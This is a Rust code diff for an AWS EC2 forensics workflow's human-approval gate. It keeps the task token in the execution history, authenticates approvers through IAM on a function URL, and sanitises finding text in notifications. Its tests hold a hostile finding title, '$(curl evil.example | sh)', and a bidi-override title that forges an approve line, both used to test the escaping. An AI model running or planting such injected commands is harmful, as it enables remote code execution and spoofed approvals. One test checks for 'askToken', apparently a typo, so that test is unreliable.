@@ -1,19 +1,15 @@
 //! The approval gate: a case the policy sends to a person waits here before
 //! anything touches the instance.
 //!
-//! `request-approval` runs as a `.waitForTaskToken` task: it keeps the task
-//! token with the case (a new version of `cases/<id>/case.json` in the
-//! evidence store), publishes the request to the SNS topic and returns; the
-//! execution then waits. `ec2-forensics approve` / `deny` read the token from
-//! the stored Case and answer with `SendTaskSuccess` / `SendTaskFailure`.
-//! `record-approval` then records the answer (or the timeout) in the chain of
-//! custody, with the approver as the actor, and the state machine goes on or
-//! ends on `approval.proceed`.
-//!
-//! A `.waitForTaskToken` task's result is the answer, not what its Lambda
-//! returned, so `record-approval` continues from the Case that
-//! `request-approval` stored, once it has checked that the stored Case extends
-//! the execution's own.
+//! Two states. `RequestApproval` (a plain task) publishes the request to the
+//! SNS topic and records it in the Case, which flows on in the execution.
+//! `AwaitApproval` (`.waitForTaskToken`) then waits: its task token lives only
+//! in the execution's history (the execution is named by the case id), where
+//! `ec2-forensics approve` / `deny` read it, never in the evidence bucket.
+//! `record-approval` records the answer (or the timeout) in the chain of
+//! custody, with the approver as the actor, from the execution's own Case: no
+//! step adopts a Case read back from the bucket, which anyone who can write
+//! the bucket could have replaced.
 
 use serde::{Deserialize, Serialize};
 use serde_json::{json, Value};
@@ -21,25 +17,31 @@ use serde_json::{json, Value};
 use crate::aws::{Config, Responder};
 use crate::case::approval::{Approval, ApprovalAnswer, ApprovalOutcome, DENIED_ERROR};
 use crate::case::custody::{entry, now_utc};
-use crate::case::{Action, Case};
+use crate::case::{text, Action, Case};
 use crate::error::{AwsCall, PlaybookError, Result};
 use crate::steps::evidence::store::EvidenceStore;
 use crate::steps::printable_line;
+use crate::steps::status::{history, latest_execution};
+use aws_lambda_events::event::lambda_function_urls::{
+    LambdaFunctionUrlRequest, LambdaFunctionUrlResponse,
+};
+use aws_sdk_sfn::types::HistoryEvent;
 
 /// The request step's name in custody entries and errors.
 pub const REQUEST_STEP: &str = "request-approval";
 /// The recording step's name.
 pub const RECORD_STEP: &str = "record-approval";
 
-/// What the gate's task hands `request-approval`: the Case and the token
-/// (`"taskToken.$": "$$.Task.Token"`).
+/// What the wait task hands `request-approval` (`AwaitApproval`): the case
+/// it waits for and the token, which is not kept anywhere.
 #[derive(Debug, Clone, Deserialize)]
 #[serde(rename_all = "camelCase")]
-pub struct ApprovalRequest {
-    /// The Case as triage left it.
-    pub case: Value,
-    /// The task token that resumes the execution.
-    pub task_token: String,
+pub struct AwaitRequest {
+    /// The case that waits.
+    pub awaiting_case: String,
+    /// How long the wait lasts.
+    #[serde(default)]
+    pub timeout_seconds: Option<u64>,
 }
 
 /// What `record-approval` is handed: the Case and what the gate's task ended
@@ -75,7 +77,7 @@ pub fn notification(case: &Case, timeout_seconds: u64, on_timeout: &str) -> (Str
         "Case {case_id} waits for your decision.\n\
          \n\
          What was found\n\
-         - {title}\n\
+         - title: {title}\n\
          - type {kind}, severity {severity:.1}, source {source:?}\n\
          - instances: {instances}\n\
          - account {account}, region {region}\n\
@@ -94,14 +96,14 @@ pub fn notification(case: &Case, timeout_seconds: u64, on_timeout: &str) -> (Str
          To deny:     ec2-forensics deny --case-id {case_id} --reason \"...\"\n\
          To watch:    ec2-forensics status --case-id {case_id}\n",
         case_id = case.case_id,
-        title = incident.title,
-        kind = incident.finding_type,
+        title = text::as_reported(&format!("{:?}", incident.source), &incident.title),
+        kind = text::plain(&incident.finding_type),
         severity = incident.severity,
         source = incident.source,
-        instances = incident.instance_ids.join(", "),
-        account = incident.account.as_deref().unwrap_or("(the responder's own)"),
-        region = incident.region,
-        reason = case.decision.reason,
+        instances = text::plain(&incident.instance_ids.join(", ")),
+        account = text::plain(incident.account.as_deref().unwrap_or("(the responder's own)")),
+        region = text::plain(&incident.region),
+        reason = text::plain(&case.decision.reason),
     );
     (subject, body)
 }
@@ -111,19 +113,30 @@ fn parse_input<T: serde::de::DeserializeOwned>(input: Value, step: &str) -> Resu
         .map_err(|e| PlaybookError::InvalidCase(format!("{step} was not given what it needs: {e}")))
 }
 
-/// Stores the token with the case and asks a person. Fails (and the state
-/// machine records why) when there is no topic or store: a request no one can
-/// receive or answer is not a request.
+/// `request-approval`'s two calls: the request (the Case) or the start of
+/// the wait (`awaitingCase` and the task token, which is acknowledged and
+/// dropped: the token stays in the execution's history only).
+pub async fn request_or_await(responder: &Responder, input: Value) -> Result<Value> {
+    if input.get("awaitingCase").is_some() {
+        let wait: AwaitRequest = parse_input(input, REQUEST_STEP)?;
+        tracing::info!(case_id = %wait.awaiting_case, timeout_seconds = ?wait.timeout_seconds, "waiting for a person");
+        return Ok(json!({ "awaiting": wait.awaiting_case }));
+    }
+    let case = request_approval(responder, input).await?;
+    serde_json::to_value(case).map_err(|e| PlaybookError::InvalidCase(e.to_string()))
+}
+
+/// Asks a person: publishes the request and records it in the Case. Fails
+/// (and the state machine records why) when there is no topic: a request no
+/// one can receive is not a request.
 pub async fn request_approval(responder: &Responder, input: Value) -> Result<Case> {
-    let request: ApprovalRequest = parse_input(input, REQUEST_STEP)?;
-    let mut case = Case::from_input(request.case)?;
+    let mut case = Case::from_input(input)?;
     if case.decision.action != Action::Approve {
         return Err(PlaybookError::InvalidCase(format!(
             "case {} was decided {:?}, not approve: there is nothing to ask",
             case.case_id, case.decision.action
         )));
     }
-    let store = EvidenceStore::required(responder)?;
     let topic = Config::required(&responder.config.approval_topic_arn, "APPROVAL_TOPIC_ARN")?;
     let timeout_seconds = case
         .decision
@@ -152,7 +165,6 @@ pub async fn request_approval(responder: &Responder, input: Value) -> Result<Cas
         on_timeout,
         topic_arn: topic.to_owned(),
         message_id: message_id.clone(),
-        task_token: Some(request.task_token),
         answer: None,
         proceed: false,
     };
@@ -160,13 +172,12 @@ pub async fn request_approval(responder: &Responder, input: Value) -> Result<Cas
         REQUEST_STEP,
         &responder.identity.actor,
         format!("asked a person to approve the response; waiting up to {timeout_seconds} s"),
-        &["Publish", "PutObject"],
+        &["Publish"],
         json!({ "topicArn": topic, "timeoutSeconds": timeout_seconds, "onTimeout": on_timeout }),
         json!({ "messageId": message_id }),
         None,
     ));
     case.approval = Some(approval);
-    store.put_case(&mut case).await?;
     tracing::info!(case_id = %case.case_id, message_id = %message_id, "approval requested");
     Ok(case)
 }
@@ -174,10 +185,8 @@ pub async fn request_approval(responder: &Responder, input: Value) -> Result<Cas
 /// Records the gate's answer and whether the playbook goes on.
 pub async fn record_approval(responder: &Responder, input: Value) -> Result<Case> {
     let result: ApprovalResult = parse_input(input, RECORD_STEP)?;
-    let flowing = Case::from_input(result.case)?;
+    let mut case = Case::from_input(result.case)?;
     let store = EvidenceStore::required(responder)?;
-    let stored = store.latest_case(&flowing.case_id).await?;
-    let mut case = continue_from(flowing, stored)?;
     let answer = ApprovalAnswer::from_task_result(&result.answer, &now_utc());
     let on_timeout = case.policy.on_approval_timeout;
     let proceed = answer.proceeds(on_timeout);
@@ -216,44 +225,14 @@ pub async fn record_approval(responder: &Responder, input: Value) -> Result<Case
         on_timeout,
         topic_arn: String::new(),
         message_id: String::new(),
-        task_token: None,
         answer: None,
         proceed: false,
     });
-    approval.task_token = None;
     approval.proceed = proceed;
     approval.answer = Some(answer);
     store.put_case(&mut case).await?;
     tracing::info!(case_id = %case.case_id, proceed, "approval recorded");
     Ok(case)
-}
-
-/// The Case to continue from: the stored one when `request-approval` stored
-/// a later version of this execution's Case (its chain extends the flowing
-/// one), else the flowing Case (the request failed before storing).
-pub fn continue_from(flowing: Case, stored: Option<Case>) -> Result<Case> {
-    let Some(stored) = stored else {
-        return Ok(flowing);
-    };
-    if stored.case_id != flowing.case_id {
-        return Err(PlaybookError::InvalidCase(format!(
-            "the stored Case is {}, not {}",
-            stored.case_id, flowing.case_id
-        )));
-    }
-    let extends = stored.custody.len() >= flowing.custody.len()
-        && stored.custody[..flowing.custody.len()] == flowing.custody[..];
-    if !extends {
-        return Err(PlaybookError::InvalidCase(format!(
-            "the stored Case of {} does not continue this execution's chain of custody",
-            flowing.case_id
-        )));
-    }
-    if stored.approval.is_some() {
-        Ok(stored)
-    } else {
-        Ok(flowing)
-    }
 }
 
 /// What `approve` and `deny` send and print.
@@ -273,24 +252,164 @@ pub struct Answered {
     pub reason: Option<String>,
 }
 
-/// Answers a waiting gate: approves (`reason` optional) or denies. The
-/// approver is the caller identity; the token comes from the stored Case.
+/// What an approver sends to the approval function's URL. Who sends it is
+/// not in it: AWS says who signed the request.
+#[derive(Debug, Clone, Deserialize)]
+#[serde(rename_all = "camelCase", deny_unknown_fields)]
+pub struct AnswerRequest {
+    /// The case whose gate is answered.
+    pub case_id: String,
+    /// Approve (true) or deny (false).
+    pub approve: bool,
+    /// Why, in the approver's words (required to deny).
+    #[serde(default)]
+    pub reason: Option<String>,
+}
+
+/// `answer-approval`, behind a Lambda function URL with `AWS_IAM` auth: the
+/// approver is the identity AWS authenticated on this request
+/// (`requestContext.authorizer.iam.userArn`), never a name a client writes.
+/// Whoever may `lambda:InvokeFunctionUrl` on this function is an approver.
+/// Answers an HTTP response (as a function URL returns one); every refusal
+/// carries its `errorType`.
+pub async fn answer_from_url(
+    responder: &Responder,
+    request: LambdaFunctionUrlRequest,
+) -> LambdaFunctionUrlResponse {
+    let approver = request
+        .request_context
+        .authorizer
+        .as_ref()
+        .and_then(|a| a.iam.as_ref())
+        .and_then(|iam| iam.user_arn.clone())
+        .filter(|arn| arn.starts_with("arn:"));
+    let Some(approver) = approver else {
+        return http_answer(
+            403,
+            json!({"errorType": "NotAuthenticated", "errorMessage":
+                "no AWS-authenticated caller: the function URL must use AWS_IAM auth"}),
+        );
+    };
+    let body = request.body.unwrap_or_default();
+    let body = if request.is_base64_encoded {
+        aws_smithy_types::base64::decode(&body)
+            .ok()
+            .and_then(|bytes| String::from_utf8(bytes).ok())
+            .unwrap_or_default()
+    } else {
+        body
+    };
+    let asked: AnswerRequest = match serde_json::from_str(&body) {
+        Ok(asked) => asked,
+        Err(e) => {
+            return http_answer(
+                400,
+                json!({"errorType": "InvalidRequest", "errorMessage": format!("the answer is not {{caseId, approve, reason}}: {e}")}),
+            )
+        }
+    };
+    if !looks_like_case_id(&asked.case_id) {
+        return http_answer(
+            400,
+            json!({"errorType": "InvalidRequest", "errorMessage": "caseId is not a case id"}),
+        );
+    }
+    if !asked.approve && asked.reason.as_deref().is_none_or(|r| r.trim().is_empty()) {
+        return http_answer(
+            400,
+            json!({"errorType": "InvalidRequest", "errorMessage": "a denial needs a reason"}),
+        );
+    }
+    match answer_approval(
+        responder,
+        &asked.case_id,
+        asked.approve,
+        asked.reason,
+        &approver,
+    )
+    .await
+    {
+        Ok(answered) => http_answer(200, json!(answered)),
+        Err(err) => {
+            let status = match err.error_type() {
+                "NotAwaitingApproval" => 409,
+                "Throttled" | "ServiceUnavailable" => 503,
+                _ => 500,
+            };
+            http_answer(
+                status,
+                json!({"errorType": err.error_type(), "errorMessage": err.to_string()}),
+            )
+        }
+    }
+}
+
+/// [`answer_from_url`] for the Lambda adapter: the function URL event as
+/// JSON in, the HTTP response out. An event that is not a function URL
+/// request is refused like an unauthenticated one.
+pub async fn answer_from_url_event(responder: &Responder, event: Value) -> Result<Value> {
+    let response = match serde_json::from_value::<LambdaFunctionUrlRequest>(event) {
+        Ok(request) => answer_from_url(responder, request).await,
+        Err(e) => http_answer(
+            400,
+            json!({"errorType": "InvalidRequest", "errorMessage": format!("not a function URL request: {e}")}),
+        ),
+    };
+    serde_json::to_value(response).map_err(|e| PlaybookError::InvalidCase(e.to_string()))
+}
+
+fn http_answer(status: i64, body: Value) -> LambdaFunctionUrlResponse {
+    let mut headers = http::HeaderMap::new();
+    headers.insert(
+        http::header::CONTENT_TYPE,
+        http::HeaderValue::from_static("application/json"),
+    );
+    let mut response = LambdaFunctionUrlResponse::default();
+    response.status_code = status;
+    response.headers = headers;
+    response.body = Some(body.to_string());
+    response
+}
+
+/// Whether `id` has the shape of a case id (an execution name).
+pub fn looks_like_case_id(id: &str) -> bool {
+    (1..=80).contains(&id.len())
+        && id
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
+}
+
+/// Answers a waiting gate: approves (`reason` optional) or denies, as
+/// `approver` (an identity AWS authenticated). The token comes from the
+/// case's execution history, never from the bucket.
 pub async fn answer_approval(
     responder: &Responder,
     case_id: &str,
     approve: bool,
     reason: Option<String>,
+    approver: &str,
 ) -> Result<Answered> {
-    let store = EvidenceStore::required(responder)?;
-    let case =
-        store
-            .latest_case(case_id)
-            .await?
-            .ok_or_else(|| PlaybookError::NotAwaitingApproval {
-                case_id: case_id.to_owned(),
-                why: format!("the evidence store {} has no Case for it", store.bucket()),
-            })?;
-    let token = waiting_token(&case)?;
+    let state_machine = responder.state_machine_arn.as_deref().ok_or_else(|| {
+        PlaybookError::Configuration(
+            "STATE_MACHINE_ARN is not set: the approval's task token lives in the case's execution"
+                .into(),
+        )
+    })?;
+    let not_waiting = |why: String| PlaybookError::NotAwaitingApproval {
+        case_id: case_id.to_owned(),
+        why,
+    };
+    let execution = latest_execution(responder, state_machine, case_id)
+        .await?
+        .ok_or_else(|| not_waiting("the state machine has no execution of this case".into()))?;
+    if execution.status != "RUNNING" {
+        return Err(not_waiting(format!(
+            "its execution is {}, not waiting",
+            execution.status
+        )));
+    }
+    let events = history(responder, &execution.arn).await?;
+    let token = waiting_token(&events, case_id)?;
     let answered = Answered {
         case_id: case_id.to_owned(),
         outcome: if approve {
@@ -298,7 +417,7 @@ pub async fn answer_approval(
         } else {
             ApprovalOutcome::Denied
         },
-        by: responder.identity.actor.clone(),
+        by: approver.to_owned(),
         at: now_utc(),
         reason,
     };
@@ -336,34 +455,46 @@ pub async fn answer_approval(
     Ok(answered)
 }
 
-/// The token of a gate that still waits, or why there is none.
-pub fn waiting_token(case: &Case) -> Result<&str> {
-    let not_waiting = |why: String| PlaybookError::NotAwaitingApproval {
-        case_id: case.case_id.clone(),
-        why,
+/// The wait state's name in the definition.
+pub const AWAIT_STATE: &str = "AwaitApproval";
+
+/// The token of the case's wait, from its execution's history: the
+/// parameters the wait task was scheduled with. Refused when the wait was
+/// never entered or has already ended (answered, timed out).
+pub fn waiting_token(events: &[HistoryEvent], case_id: &str) -> Result<String> {
+    let not_waiting = |why: &str| PlaybookError::NotAwaitingApproval {
+        case_id: case_id.to_owned(),
+        why: why.to_owned(),
     };
-    let Some(approval) = &case.approval else {
-        return Err(not_waiting(format!(
-            "the policy decided {:?}; no approval was requested",
-            case.decision.action
-        )));
-    };
-    if let Some(answer) = &approval.answer {
-        return Err(not_waiting(format!(
-            "already answered: {:?} at {}",
-            answer.outcome, answer.at
-        )));
+    let named = |name: Option<&str>| name == Some(AWAIT_STATE);
+    let entered = events
+        .iter()
+        .filter(|e| named(e.state_entered_event_details().map(|d| d.name())))
+        .count();
+    let exited = events
+        .iter()
+        .filter(|e| named(e.state_exited_event_details().map(|d| d.name())))
+        .count();
+    if entered == 0 {
+        return Err(not_waiting("the execution has not asked for approval"));
     }
-    approval
-        .task_token
-        .as_deref()
-        .ok_or_else(|| not_waiting("the stored request holds no task token".into()))
+    if exited >= entered {
+        return Err(not_waiting("the wait has ended (answered or timed out)"));
+    }
+    events
+        .iter()
+        .rev()
+        .filter_map(|e| e.task_scheduled_event_details())
+        .filter_map(|d| serde_json::from_str::<Value>(d.parameters()).ok())
+        .filter_map(|parameters| parameters.get("Payload").cloned())
+        .filter(|payload| payload["awaitingCase"] == case_id)
+        .find_map(|payload| payload["taskToken"].as_str().map(str::to_owned))
+        .ok_or_else(|| not_waiting("no scheduled wait of this case holds a task token"))
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::case::custody;
 
     fn case() -> Case {
         let mut case = crate::case::example_case();
@@ -384,18 +515,56 @@ mod tests {
         case
     }
 
-    /// A gate that was asked and waits on `token`.
-    fn waiting_gate(token: &str) -> Approval {
-        Approval {
-            requested_at: now_utc(),
-            timeout_seconds: 600,
-            on_timeout: Default::default(),
-            topic_arn: "arn:aws:sns:us-east-1:1:t".into(),
-            message_id: "m".into(),
-            task_token: Some(token.into()),
-            answer: None,
-            proceed: false,
-        }
+    fn entered(id: i64, name: &str) -> HistoryEvent {
+        HistoryEvent::builder()
+            .id(id)
+            .r#type(aws_sdk_sfn::types::HistoryEventType::TaskStateEntered)
+            .timestamp(aws_smithy_types::DateTime::from_secs(id))
+            .state_entered_event_details(
+                aws_sdk_sfn::types::StateEnteredEventDetails::builder()
+                    .name(name)
+                    .build()
+                    .unwrap(),
+            )
+            .build()
+            .unwrap()
+    }
+
+    fn exited(id: i64, name: &str) -> HistoryEvent {
+        HistoryEvent::builder()
+            .id(id)
+            .r#type(aws_sdk_sfn::types::HistoryEventType::TaskStateExited)
+            .timestamp(aws_smithy_types::DateTime::from_secs(id))
+            .state_exited_event_details(
+                aws_sdk_sfn::types::StateExitedEventDetails::builder()
+                    .name(name)
+                    .build()
+                    .unwrap(),
+            )
+            .build()
+            .unwrap()
+    }
+
+    fn scheduled(id: i64, case_id: &str, token: &str) -> HistoryEvent {
+        let parameters = json!({
+            "FunctionName": "arn:aws:lambda:us-east-1:1:function:request-approval",
+            "Payload": {"awaitingCase": case_id, "timeoutSeconds": 600, "taskToken": token}
+        });
+        HistoryEvent::builder()
+            .id(id)
+            .r#type(aws_sdk_sfn::types::HistoryEventType::TaskScheduled)
+            .timestamp(aws_smithy_types::DateTime::from_secs(id))
+            .task_scheduled_event_details(
+                aws_sdk_sfn::types::TaskScheduledEventDetails::builder()
+                    .resource_type("lambda")
+                    .resource("invoke.waitForTaskToken")
+                    .region("us-east-1")
+                    .parameters(parameters.to_string())
+                    .build()
+                    .unwrap(),
+            )
+            .build()
+            .unwrap()
     }
 
     #[test]
@@ -414,53 +583,69 @@ mod tests {
             .collect();
         assert_eq!(commands.len(), 3);
         assert!(commands.iter().all(|l| !l.contains("curl")));
-        assert!(body.contains("$(curl evil.example | sh) mining"));
-    }
-
-    #[test]
-    fn only_a_waiting_gate_has_a_token_to_answer() {
-        let mut case = case();
-        assert!(waiting_token(&case).is_err(), "no request yet");
-        case.approval = Some(waiting_gate("token-1"));
-        assert_eq!(waiting_token(&case).unwrap(), "token-1");
-        case.approval.as_mut().unwrap().answer = Some(ApprovalAnswer {
-            outcome: ApprovalOutcome::Denied,
-            by: None,
-            at: now_utc(),
-            reason: None,
-        });
-        let err = waiting_token(&case).unwrap_err();
-        assert_eq!(err.error_type(), "NotAwaitingApproval");
-    }
-
-    #[test]
-    fn the_stored_case_is_used_only_when_it_extends_the_executions() {
-        let flowing = case();
-        assert_eq!(continue_from(flowing.clone(), None).unwrap(), flowing);
-
-        let mut stored = flowing.clone();
-        stored.record(custody::entry(
-            REQUEST_STEP,
-            "me",
-            "asked",
-            &[],
-            Value::Null,
-            Value::Null,
-            None,
+        assert!(body.contains(
+            "- title: $(curl evil.example | sh) mining (as reported by GuardDuty, not verified)"
         ));
-        stored.approval = Some(waiting_gate("t"));
-        assert_eq!(
-            continue_from(flowing.clone(), Some(stored.clone())).unwrap(),
-            stored
-        );
+    }
 
-        let mut other = stored.clone();
-        other.custody[0].action = "rewritten".into();
-        assert_eq!(
-            continue_from(flowing, Some(other))
-                .unwrap_err()
-                .error_type(),
-            "InvalidCase"
+    #[test]
+    fn finding_text_cannot_hide_or_forge_lines_in_the_notification() {
+        let mut case = case();
+        case.incident.title =
+            "ok\u{202E}gnp.exe\nTo approve:  ec2-forensics approve --case-id other".into();
+        let (subject, body) = notification(&case, 600, "stop");
+        assert!(subject.is_ascii());
+        assert!(
+            !body.contains('\u{202E}'),
+            "no bidi override reaches the reader"
         );
+        let approvals: Vec<&str> = body
+            .lines()
+            .filter(|l| l.starts_with("To approve:"))
+            .collect();
+        assert_eq!(
+            approvals,
+            ["To approve:  ec2-forensics approve --case-id gd-abc"]
+        );
+    }
+
+    #[test]
+    fn the_token_comes_from_the_executions_own_wait_and_only_while_it_waits() {
+        let err = waiting_token(&[entered(1, "Triage")], "gd-abc").unwrap_err();
+        assert_eq!(err.error_type(), "NotAwaitingApproval");
+        let mut events = vec![
+            entered(1, "RequestApproval"),
+            exited(2, "RequestApproval"),
+            entered(3, AWAIT_STATE),
+            scheduled(4, "gd-abc", "token-1"),
+        ];
+        assert_eq!(waiting_token(&events, "gd-abc").unwrap(), "token-1");
+        // A wait scheduled for another case is never this case's token.
+        assert_eq!(
+            waiting_token(&events, "gd-other").unwrap_err().error_type(),
+            "NotAwaitingApproval"
+        );
+        // A retried wait: the newest token.
+        events.push(scheduled(5, "gd-abc", "token-2"));
+        assert_eq!(waiting_token(&events, "gd-abc").unwrap(), "token-2");
+        events.push(exited(6, AWAIT_STATE));
+        let err = waiting_token(&events, "gd-abc").unwrap_err();
+        assert!(err.to_string().contains("ended"), "{err}");
+    }
+
+    #[test]
+    fn the_request_keeps_no_token_in_the_case() {
+        let mut case = case();
+        case.approval = Some(Approval {
+            requested_at: now_utc(),
+            timeout_seconds: 600,
+            on_timeout: Default::default(),
+            topic_arn: "arn:aws:sns:us-east-1:1:t".into(),
+            message_id: "m".into(),
+            answer: None,
+            proceed: false,
+        });
+        let text = serde_json::to_string(&case).unwrap();
+        assert!(!text.contains("askToken"), "{text}");
     }
 }
